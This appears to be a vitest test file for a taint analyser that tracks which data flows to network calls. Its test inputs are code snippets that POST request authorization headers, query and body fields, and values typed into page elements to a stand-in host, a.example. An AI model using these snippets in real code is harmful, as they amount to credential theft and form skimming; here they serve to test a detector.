import { describe, expect, it } from 'vitest';
import { follow } from '../sample.js';

const sent = (code: string) =>
  follow(code).observations.flatMap(({ sink, taints }) =>
    sink === 'net.out' ? taints.map(({ detail }) => detail) : [],
  );

const server = (body: string) => `require('http').createServer((req, res) => { ${body} }).listen(1);`;
const post = (what: string) => `fetch('https://a.example/', { method: 'POST', body: ${what} });`;

describe('what of a request goes on', () => {
  it('is told apart: the address of one that a server of the package gets', () => {
    const code = server(post("new URL(req.url, 'http://a').searchParams.get('code')"));
    expect(sent(code)).toContain('url of http.createServer');
    expect(sent(code)).not.toContain('http.createServer');
  });

  it.each(['req.headers.authorization', 'req.socket', 'req'])('%s is not its address', (what) => {
    expect(sent(server(post(what)))).toContain('http.createServer');
  });

  it('is told apart: the query of one that a handler gets', () => {
    const handler = (what: string) => `require('express')().get('/', (req, res) => { ${post(what)} });`;
    expect(sent(handler('req.query.code'))).toContain('query of a request handler');
    expect(sent(handler('req.query.code'))).not.toContain('req of a request handler');
    expect(sent(handler('req.body.code'))).toContain('req of a request handler');
    expect(sent(handler('req.query.code + req.body.code'))).toContain('req of a request handler');
  });
});

describe('what of an element that is typed into goes on', () => {
  const typed = (what: string) =>
    sent(`document.addEventListener('change', (e) => { ${post(what)} });`).filter((each) => each !== 'e');

  it.each(['e.target.value', 'e.target', 'e', 'new FormData(e.target.form)'])('%s is what was typed', (what) => {
    expect(typed(what)).toContain('document.addEventListener');
  });

  it.each(['e.target.tagName', 'e.target.id', 'e.type', 'e.target.className.split(" ")[0]'])('%s is not', (what) => {
    expect(typed(what)).toEqual([]);
  });

  it('what it shows is told apart', () => {
    expect([...new Set(typed('e.target.textContent'))]).toEqual([
      'document.addEventListener.textContent',
      'target.textContent',
    ]);
  });

  it('a field that is called so of something else that it was put into is typed', () => {
    expect(typed('JSON.parse(JSON.stringify({ id: e.target.value })).id')).toContain('document.addEventListener');
    expect(typed('pack(e.target.value).id')).toContain('document.addEventListener');
  });
});
